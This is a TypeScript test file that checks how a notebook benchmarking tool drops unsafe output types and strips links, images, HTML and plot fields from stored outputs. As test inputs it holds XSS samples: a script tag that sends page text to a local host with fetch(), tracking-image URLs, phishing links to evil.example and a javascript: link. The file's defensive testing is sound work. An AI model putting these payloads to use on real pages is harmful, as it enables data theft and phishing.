/**
 * Issue 17, classes 8 and 10: stored outputs are data, not code. Reading a notebook keeps only
 * the output types MoE Bench writes; the renderer checks a doc's shape and keeps only the plot
 * layout keys and trace types we produce; error markdown cannot add headings or links.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseNotebook, serializeNotebook } from '../../../src/core/notebook/format';
import { errorMarkdown } from '../../../src/core/output/error-markdown';
import { validateOutputDoc, safeLayout, safeTraces } from '../../../src/core/output/validate-doc';
import { CommandFailedError } from '../../../src/core/util/errors';

const DOC_MIME = 'application/vnd.moebench.doc+json';

function fileWith(items: { mime: string; data: unknown }[]): string {
  return JSON.stringify({ format: 'moebench-notebook', version: 1, metadata: {}, cells: [{ kind: 'code', language: 'moebench-bench', source: ['name: x'], outputs: [{ items }] }] });
}

const HOSTILE_MIMES = ['text/html', 'application/javascript', 'text/javascript', 'image/svg+xml', 'application/vnd.code.notebook.error', 'application/x-ipywidgets+json', 'text/x-javascript', 'application/vnd.plotly.v1+json', 'image/png', 'text/latex', 'application/vnd.jupyter.widget-view+json'];

test('reading a notebook keeps only the output types we write: html, script, svg and others are dropped', () => {
  for (const mime of HOSTILE_MIMES) {
    const nb = parseNotebook(fileWith([{ mime, data: '<script>fetch("http://127.0.0.1:9/"+document.body.innerText)</script>' }, { mime: DOC_MIME, data: { blocks: [] } }]));
    assert.deepEqual(nb.cells[0].outputs?.[0].items.map((i) => i.mime), [DOC_MIME], mime);
  }
});

test('stored markdown loses raw HTML and images; our own escaped error markdown round-trips byte for byte', () => {
  const nb = parseNotebook(fileWith([{ mime: 'text/markdown', data: 'hi ![x](http://127.0.0.1:9/beacon.png) <img src=http://127.0.0.1:9/a> <b>b</b>' }]));
  const md = String(nb.cells[0].outputs?.[0].items[0].data);
  assert.doesNotMatch(md, /!\[|(?<!\\)</);
  const ours = errorMarkdown(new CommandFailedError('server said <b>no</b> at http://evil.example/x\n# Heading\n![i](http://x/y.png)', { node: 'n1' }, 'Check [this](http://z).'));
  const file = serializeNotebook({ metadata: {}, cells: [{ kind: 'code', language: 'moebench-bench', source: 'name: x', outputs: [{ items: [{ mime: 'text/markdown', data: ours }] }] }] });
  assert.equal(serializeNotebook(parseNotebook(file)), file);
});

test('error markdown from remote stderr cannot add headings, lists, links or images', () => {
  const md = errorMarkdown(new CommandFailedError('Starting rank-0 failed: Traceback\n# Click here\n- [login](http://evil.example/phish)\nhttp://evil.example/x evil.example ![p](http://evil.example/p.png)\n===\n| a | b |', { node: 'n1' }));
  for (const line of md.split('\n')) {
    assert.doesNotMatch(line, /^\s*(#|-|\+|>|\||=|\d+\.|\*(?!\*?(Error|Where|Next):))/, `line starts a block: ${line}`);
  }
  assert.doesNotMatch(md, /(?<!\\)[[\]()<>]/, 'unescaped link or tag syntax');
  assert.doesNotMatch(md, /https?:\/\//, 'a bare URL survived');
  assert.doesNotMatch(md, /evil\.example/, 'a bare domain survived');
});

test('a malformed doc is refused with one clear reason, never thrown', () => {
  const bad: unknown[] = [null, 1, 'x', [], {}, { blocks: 'x' }, { blocks: [null] }, { blocks: [{ type: 'table', columns: 'a', rows: [] }] }, { blocks: [{ type: 'kv', items: [['a']] }] }, { blocks: [{ type: 'badges', items: [{ level: 'evil', text: 'x' }] }] }, { blocks: [{ type: 'plot', id: 1, data: [] }] }, { blocks: [{ type: 'plot', id: 'p', data: {}, layout: {} }] }, { blocks: [{ type: 'text', text: 5 }] }, { blocks: [{ type: 'progress', label: 'x', fraction: 'half' }] }, { blocks: [{ type: 'html', html: '<script>' }] }, { title: 5, blocks: [] }, { runIds: [1], blocks: [] }];
  for (const b of bad) {
    const r = validateOutputDoc(b);
    assert.ok('error' in r, JSON.stringify(b));
    assert.equal(typeof r.error, 'string');
  }
});

test('a plot keeps only the layout keys and trace types we produce; links, images and styled spans are stripped', () => {
  const layout = safeLayout({
    title: { text: '<span style="font-size:200px;color:red">FAKE</span>Latency<br>p99 <a href="http://evil/">x</a>' },
    images: [{ source: 'http://127.0.0.1:9/track.png', xref: 'paper', yref: 'paper' }],
    xaxis: { title: { text: 'ms' }, type: 'log' },
    yaxis2: { overlaying: 'y', side: 'right' },
    annotations: [{ text: '<a href="javascript:alert(1)">click</a>', x: 1, y: 1 }],
    updatemenus: [{ buttons: [] }],
    template: { layout: { images: [{ source: 'http://x' }] } },
    sliders: [],
  });
  assert.deepEqual(Object.keys(layout).sort(), ['annotations', 'title', 'xaxis', 'yaxis2']);
  assert.deepEqual(layout.title, { text: 'FAKELatency<br>p99 x' }, 'the style that painted it is gone; the words stay plain text');
  assert.deepEqual(layout.annotations, [{ text: 'click', x: 1, y: 1 }]);
  const traces = safeTraces([
    { type: 'image', source: 'http://127.0.0.1:9/i.png' },
    { type: 'scattergl', x: [1, 2], y: [3, 4], name: '<span style="x">gpu0</span>', hovertemplate: 'gpu0 %{y}<extra></extra>', meta: { gpu: 0 } },
    { type: 'heatmap', z: [[1]], colorbar: { title: { text: 'GB/s' } } },
    { type: 'scattermapbox', lat: [0] },
  ]);
  assert.deepEqual(traces.map((t) => t.type), ['scattergl', 'heatmap']);
  assert.equal(traces[0].name, 'gpu0');
  assert.equal(traces[0].hovertemplate, 'gpu0 %{y}<extra></extra>');
  assert.deepEqual(traces[0].meta, { gpu: 0 });
});
